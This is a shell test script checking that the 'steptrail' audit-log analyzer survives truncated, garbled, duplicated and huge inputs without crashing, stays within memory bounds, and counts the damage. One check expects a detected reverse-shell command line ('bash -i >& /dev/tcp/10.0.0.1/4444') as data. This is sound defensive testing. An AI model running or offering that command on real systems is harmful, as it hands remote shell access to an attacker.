#!/bin/sh
# malformed.sh: never crash, never lie, on damaged input.  TAP.
#
# Every input here is hand-made at test time (hence "handmade:" in each
# point): tests/gen-malformed.py damages real records (testdata/ci-job,
# tests/data) one way per case and writes what it did beside the log
# (NAME.log.facts: lines damaged, records and events left...), and
# fuzz/gen/many-pids.awk writes a million processes.  For each input,
# steptrail analyze, text and JSON, must end by itself with a status below
# 64, its peak RSS must stay under a bound, and the JSON statistics must
# count what was damaged.  Expectations come from the input (the facts, or
# the report of the same log undamaged), not from what steptrail printed:
# a point that fails names a defect.
set -u
# Reports gain a "ci" section under a CI system; nothing here needs one.
unset GITHUB_RUN_ID GITLAB_CI JENKINS_URL

: "${STEPTRAIL:=$(pwd)/steptrail}"
: "${TOP_SRCDIR:=$(pwd)}"
: "${STEPTRAIL_DATADIR:=$TOP_SRCDIR}"
export STEPTRAIL_DATADIR
# shellcheck source=tests/lib-tap.sh
. "$TOP_SRCDIR/tests/lib-tap.sh"
tap_start malformed
gen=$TOP_SRCDIR/tests/gen-malformed.py

if ! command -v python3 > /dev/null 2>&1; then
	point not-ok "python3 is needed (tests/gen-malformed.py makes the inputs)"
	echo "1..$n"
	exit 0
fi

# Under AddressSanitizer the peak RSS is mostly the sanitizer's (shadow
# memory, quarantine): the bounds are checked by the plain build's run.
sanitized=no
if nm "$STEPTRAIL" 2>/dev/null | grep -q __asan_init; then
	sanitized=yes
fi

# A point that fails today because of a known defect of steptrail is
# marked TODO (TAP): it still runs and is reported "not ok", counted as
# an expected failure; once fixed it passes, which counts as a failure
# (XPASS) until the mark is removed.
todo=
known() {	# known REASON NAME DESCRIPTION EXPR [BASE-JSON]
	todo=$1
	shift
	expect "$@"
	todo=
}

# The known defects (reported; see the points that name them): none today.

skip() {	# skip DESCRIPTION REASON
	n=$((n + 1))
	printf 'ok %d - %s # SKIP %s\n' "$n" "$1" "$2"
}

# measure.py OUT ERR COMMAND...: runs COMMAND (standard input inherited)
# and prints how it ended, "exit N KB" or "signal N KB", KB its peak RSS.
cat > "$tmp/measure.py" <<'EOF'
import os, sys
pid = os.fork()
if pid == 0:
    os.dup2(os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC), 1)
    os.dup2(os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_TRUNC), 2)
    os.execv(sys.argv[3], sys.argv[3:])
_, st, ru = os.wait4(pid, 0)
if os.WIFSIGNALED(st):
    print("signal", os.WTERMSIG(st), ru.ru_maxrss)
else:
    print("exit", os.WEXITSTATUS(st), ru.ru_maxrss)
EOF

# check.py JSON FACTS|- EXPR [BASE-JSON]: is EXPR true of the report?
# Names: d (the JSON report, parsed as strict UTF-8), i (its input
# object), fs (its findings), txt (the text report, bytes), F (the facts),
# B (the report of the log undamaged), found(doc) (its findings by recipe,
# severity and pid), on(doc, serial) (its findings on that event).
cat > "$tmp/check.py" <<'EOF'
import collections, json, sys
path, facts, expr = sys.argv[1:4]
d = json.loads(open(path, "rb").read().decode("utf-8"))
i, fs = d["input"], d["findings"]
txt = open(path[:-len(".json")] + ".txt", "rb").read()
F = {}
if facts != "-":
    for line in open(facts):
        k, v = line.strip().split("=", 1)
        F[k] = int(v) if v.isdigit() else v
B = json.load(open(sys.argv[4])) if len(sys.argv) > 4 else None
def found(doc):
    return collections.Counter((f["recipe"], f["severity"], f["pid"])
                               for f in doc["findings"])
def on(doc, serial):
    return [f for f in doc["findings"] if serial in f["serials"]]
if eval(expr):
    sys.exit(0)
print("# false:", expr)
print("# input:", {k: v for k, v in i.items() if v and k != "files"})
if F:
    print("# facts:", F)
if B is not None and found(B) != found(d):
    print("# findings missing:", dict(found(B) - found(d)))
    print("# findings added:", dict(found(d) - found(B)))
sys.exit(1)
EOF

# analyze NAME [ARGS...]: steptrail analyze ARGS (default $tmp/NAME.log),
# text then JSON, into $tmp/NAME.txt and $tmp/NAME.json; how each ended
# in NAME.txt.how and NAME.json.how.  Standard input is read twice: give
# a file, or use analyze_pipe.
analyze() {
	c=$1
	shift
	[ $# -eq 0 ] && set -- "$tmp/$c.log"
	python3 "$tmp/measure.py" "$tmp/$c.txt" "$tmp/$c.txt.err" \
	    "$STEPTRAIL" analyze "$@" > "$tmp/$c.txt.how"
	python3 "$tmp/measure.py" "$tmp/$c.json" "$tmp/$c.json.err" \
	    "$STEPTRAIL" analyze -f json "$@" > "$tmp/$c.json.how"
}

# make CASE: the hand-made log $tmp/CASE.log (and .facts, and .base),
# analyzed, and the undamaged .base too if there is one
make_case() {
	if ! python3 "$gen" "$1" "$TOP_SRCDIR" "$tmp/$1.log" 2> "$tmp/$1.gen"; then
		sed 's/^/# /' "$tmp/$1.gen"
		: > "$tmp/$1.log"
	fi
	analyze "$1"
	if [ -f "$tmp/$1.log.base" ]; then
		"$STEPTRAIL" analyze -f json "$tmp/$1.log.base" \
		    > "$tmp/$1-base.json" 2> /dev/null
	fi
}

# survives NAME DESCRIPTION: both runs ended by themselves, below 64, and
# no sanitizer complained (ASan and LeakSanitizer exit with 1 and 23)
survives() {
	read -r how1 code1 kb1 < "$tmp/$1.txt.how" || how1=none
	read -r how2 code2 kb2 < "$tmp/$1.json.how" || how2=none
	if [ "$how1" = exit ] && [ "$code1" -lt 64 ] &&
	    [ "$how2" = exit ] && [ "$code2" -lt 64 ] &&
	    ! grep -q -e 'Sanitizer' -e 'runtime error:' "$tmp/$1.txt.err" \
	    "$tmp/$1.json.err"; then
		point ok "$2: no crash, text and JSON (exit $code1, $code2)"
	else
		point not-ok "$2: no crash, text and JSON (text: $how1 ${code1:-}, JSON: $how2 ${code2:-})"
		head -n 20 "$tmp/$1.txt.err" "$tmp/$1.json.err" | sed 's/^/# /'
	fi
}

# bounded NAME DESCRIPTION MB: the peak RSS of both runs under MB
bounded() {
	if [ $sanitized = yes ]; then
		skip "$2: peak RSS under $3 MB" "built with AddressSanitizer"
		return
	fi
	read -r how1 code1 kb1 < "$tmp/$1.txt.how" || kb1=999999999
	read -r how2 code2 kb2 < "$tmp/$1.json.how" || kb2=999999999
	if [ "$kb1" -lt $(($3 * 1024)) ] && [ "$kb2" -lt $(($3 * 1024)) ]; then
		point ok "$2: peak RSS under $3 MB (text $((kb1 / 1024)) MB, JSON $((kb2 / 1024)) MB)"
	else
		point not-ok "$2: peak RSS under $3 MB (text $((kb1 / 1024)) MB, JSON $((kb2 / 1024)) MB)"
	fi
}

# expect NAME DESCRIPTION EXPR [BASE-JSON]: check.py on NAME's reports
expect() {
	facts=$tmp/$1.log.facts
	[ -f "$facts" ] || facts=-
	desc=$2${todo:+ # TODO $todo}
	if python3 "$tmp/check.py" "$tmp/$1.json" "$facts" "$3" ${4:+"$4"} \
	    > "$tmp/check.out" 2>&1; then
		point ok "$desc"
	else
		point not-ok "$desc"
		sed 's/^#* */# /' "$tmp/check.out" | head -n 12
	fi
}

# The logs the damage is done to, undamaged.
cijob=$tmp/ci-job.json
memfd=$tmp/memfd.json
"$STEPTRAIL" analyze -f json "$TOP_SRCDIR/testdata/ci-job/audit.log" > "$cijob"
"$STEPTRAIL" analyze -f json "$TOP_SRCDIR/tests/data/real-memfd-exec.log" \
    > "$memfd"

# --- truncated lines
c=trunc-header d="handmade: five records cut inside their header, the last at the end of the file without a newline"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: each cut line is counted as malformed, the first by its line number" \
    'i["malformed"] == F["damaged"] and ":101: " in i["malformed_first"]'
expect "$c" "$d: no other record is lost" 'i["records"] == F["records"]'
expect "$c" "$d: the text report says how many lines were skipped" \
    'b"skipped %d malformed lines" % F["damaged"] in txt'

c=trunc-field d="handmade: an exec's SYSCALL record cut mid-field, before pid="
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: the exec without its pid is counted incomplete" \
    'i["incomplete"] >= 1'
expect "$c" "$d: every event is still read" \
    'i["events"] == F["events"] and i["execs"] == F["execs"]'

c=trunc-hex d="handmade: an EXECVE record cut inside a hex-encoded argument (an odd number of digits)"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: the exec is counted in argv_truncated (the log lost part of its argv)" \
    'i["argv_truncated"] >= 1'
expect "$c" "$d: its findings say argv_truncated and do not show the hex digits as the argument" \
    'on(d, F["damaged_serial"]) and all(f["argv_truncated"] and not f["argv"][2].startswith("696D706F7274") for f in on(d, F["damaged_serial"]))'

c=trunc-chunk d="handmade: a record of a chunked argument (a1[1]=) cut mid-hex"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: the exec is counted in argv_truncated" 'i["argv_truncated"] >= 1'

# --- NUL bytes, a 64 MiB line
c=nul d="handmade: NUL bytes inside seven records"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: each is counted as malformed, the first by its line number" \
    'i["malformed"] == F["damaged"] and ":11: NUL" in i["malformed_first"]'
expect "$c" "$d: no other record is lost" 'i["records"] == F["records"]'

c=long-line d="handmade: two 64 MiB lines, one mid-log, one at the end without a newline"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: both are counted as malformed" 'i["malformed"] == F["damaged"]'
expect "$c" "$d: every record and event around them is read" \
    'i["records"] == F["records"] and i["events"] == F["events"]'
expect "$c" "$d: the same findings as the log without them" \
    'found(d) == found(B)' "$cijob"

# --- EXECVE arguments and argc
c=bad-hex d="handmade: EXECVE arguments neither quoted nor hex (a G among the digits; an odd number of digits)"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: both execs are counted (argv_truncated, incomplete or malformed)" \
    'i["argv_truncated"] + i["incomplete"] + i["malformed"] >= F["damaged"]'
expect "$c" "$d: no finding shows the undecodable text as an argument" \
    'fs and not any("7061796C6F616" in a or "0AG664" in a for f in fs for a in f["argv"])'

c=argc-more d="handmade: an EXECVE record with more arguments than its argc"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: counted incomplete" 'i["incomplete"] == 1'
expect "$c" "$d: the exec's findings are still reported" \
    'found(d) == found(B)' "$memfd"

c=argc-fewer d="handmade: an EXECVE record with fewer arguments than its argc"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: counted in argv_truncated, and its findings say so" \
    'i["argv_truncated"] == 1 and on(d, 14087) and all(f["argv_truncated"] for f in on(d, 14087))'

# --- event assembly: EOE, interleaving, serial numbers, time
c=no-eoe d="handmade: every seventh event's EOE missing"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: every event and record is read" \
    'i["events"] == F["events"] and i["records"] == F["records"]'
expect "$c" "$d: the same findings as the log undamaged" 'found(d) == found(B)' \
    "$cijob"

c=no-eoe-no-proctitle d="handmade: no PROCTITLE records (an old kernel) and every seventh EOE missing"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: every event and record is read, none reported lost" \
    'i["events"] == F["events"] and i["records"] == F["records"] and i["serial_missing"] == 0 and i["records_missing"] == 0'
expect "$c" "$d: the reverse shells are still found" \
    'found(d)[("reverse_shell", "critical", 30188)] == 1 and found(d)[("reverse_shell", "critical", 30198)] == 1'

c=interleaved d="handmade: records of three events at a time interleaved"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: every event and record is read" \
    'i["events"] == F["events"] and i["records"] == F["records"]'
expect "$c" "$d: the same findings as the log undamaged" 'found(d) == found(B)' \
    "$cijob"

c=serial-order d="handmade: consecutive events swapped (serials out of order)"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: no serial number reported missing, no reset" \
    'i["serial_missing"] == 0 and i["serial_gaps"] == 0 and i["serial_resets"] == 0'
expect "$c" "$d: the same findings as the log in order" 'found(d) == found(B)' \
    "$cijob"

c=serial-dup-near d="handmade: every exec (and every tenth event) written twice in a row (duplicate serials)"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: each event counted once" \
    'i["events"] == F["events"] and i["execs"] == F["execs"]'
expect "$c" "$d: the copies are merged (parts_merged)" \
    'i["parts_merged"] >= F["dups"]'
expect "$c" "$d: no argument shown twice over (argv as in the log without copies)" \
    'sorted(tuple(f["argv"]) for f in fs) == sorted(tuple(f["argv"]) for f in B["findings"])' \
    "$cijob"
expect "$c" "$d: the same findings as the log without copies" \
    'found(d) == found(B)' "$cijob"

c=serial-dup-far d="handmade: the first 300 events again after 2688 others (duplicate serials beyond the window)"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: the copies are counted late" 'i["late"] >= F["dups"]'
expect "$c" "$d: the copies are not counted as new events (events, execs as without them)" \
    'i["events"] == B["input"]["events"] and i["execs"] == B["input"]["execs"]' \
    "$tmp/$c-base.json"
expect "$c" "$d: the same findings as without the copies" \
    'found(d) == found(B)' "$tmp/$c-base.json"

c=time-back d="handmade: the clock set back an hour halfway through the job, serials going on"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: no serial number missing, no reset (it is no reboot)" \
    'i["serial_missing"] == 0 and i["serial_resets"] == 0'
expect "$c" "$d: no pid reuse (the same processes)" 'i["pid_reuse"] == 0'
expect "$c" "$d: the clock step is counted, once" 'i["clock_steps"] == 1'
expect "$c" "$d: the same findings as with the clock right" \
    'found(d) == found(B)' "$cijob"

c=time-back-long d="handmade: four jobs in a row, the clock set back an hour in the third, serials going on"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: no serial number missing, no reset" \
    'i["serial_missing"] == B["input"]["serial_missing"] == 0 and i["serial_resets"] == 0' \
    "$tmp/$c-base.json"
expect "$c" "$d: no pid reuse (the same processes)" \
    'i["pid_reuse"] == B["input"]["pid_reuse"]' "$tmp/$c-base.json"
expect "$c" "$d: the same findings as with the clock right" \
    'found(d) == found(B)' "$tmp/$c-base.json"

# --- bytes
c=utf8 d="handmade: invalid UTF-8 in an argument (hex-encoded) and raw in comm= and cwd="
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: both reports are valid UTF-8, the JSON one a valid document" \
    'txt.decode("utf-8") is not None'
expect "$c" "$d: the bytes are shown escaped (\\xNN)" \
    'on(d, 14087) and all(f["argv"][0] == "pay\\xff\\xfeload\\xc0\\xaf\\xed\\xa0\\x80" for f in on(d, 14087))'
expect "$c" "$d: the same findings as the log undamaged" \
    'found(d) == found(B)' "$memfd"

c=argv-100k d="handmade: an exec of 100000 arguments over EXECVE records of 7.5 kB"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 100
expect "$c" "$d: one exec, whole (not truncated, not incomplete)" \
    'i["execs"] == 1 and i["records"] == F["records"] and i["argv_truncated"] == 0 and i["incomplete"] == 0'
expect "$c" "$d: the reverse shell in front is found, its argv as logged" \
    '[f["recipe"] for f in fs] == ["reverse_shell"] and fs[0]["argv"][:3] == ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]'

c=garbage d="handmade: 1 MiB of random bytes (seed 1)"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: every non-blank line is counted as malformed, no record read" \
    'i["malformed"] == F["malformed"] and i["records"] == 0'
expect "$c" "$d: exit 3, and the report says the file holds no audit record" \
    'open(sys.argv[1][:-5] + ".json.how").read().split()[:2] == ["exit", "3"] and b"no audit records in" in txt'

c=garbage-mixed d="handmade: 260 KiB of random bytes (seeds 1, 2) at the top and between two events"
make_case "$c"
survives "$c" "$d"
bounded "$c" "$d" 64
expect "$c" "$d: every garbage line is counted as malformed" \
    'i["malformed"] == F["malformed"]'
expect "$c" "$d: every record and event of the log is read" \
    'i["records"] == F["records"] and i["events"] == F["events"]'
expect "$c" "$d: the same findings as the log without garbage" \
    'found(d) == found(B)' "$cijob"

# --- resource bounds: ten million processes, all alive, in ten seconds
# of log time (nothing idle for a day): only the table's bound (PROCS_MAX)
# keeps memory flat.  About 45 s for each report; under ASan, whose own
# memory the RSS bound cannot see past, a million (bench/many-pids.sh
# times it)
pids=10000000
[ $sanitized = yes ] && pids=1000000
c=many-pids d="handmade: $pids processes of 5 hosts in 10 s of log time (fuzz/gen/many-pids.awk)"
for f in txt json; do
	fmt=text
	[ $f = json ] && fmt=json
	awk -v n=$pids -f "$TOP_SRCDIR/fuzz/gen/many-pids.awk" |
	    python3 "$tmp/measure.py" "$tmp/$c.$f" "$tmp/$c.$f.err" \
	    "$STEPTRAIL" analyze -f $fmt - > "$tmp/$c.$f.how"
done
survives "$c" "$d"
bounded "$c" "$d" 200
expect "$c" "$d: every process is counted" \
    "i['processes'] == $pids + 2 * 5 and i['forks'] == $pids and i['malformed'] == 0"
expect "$c" "$d: the processes forgotten to keep the table bounded are counted, in JSON and text" \
    "i['forgotten'] == 0 and i.get('forgotten_full', 0) > 0 and b'forgotten when the process table was full' in txt"

echo "1..$n"
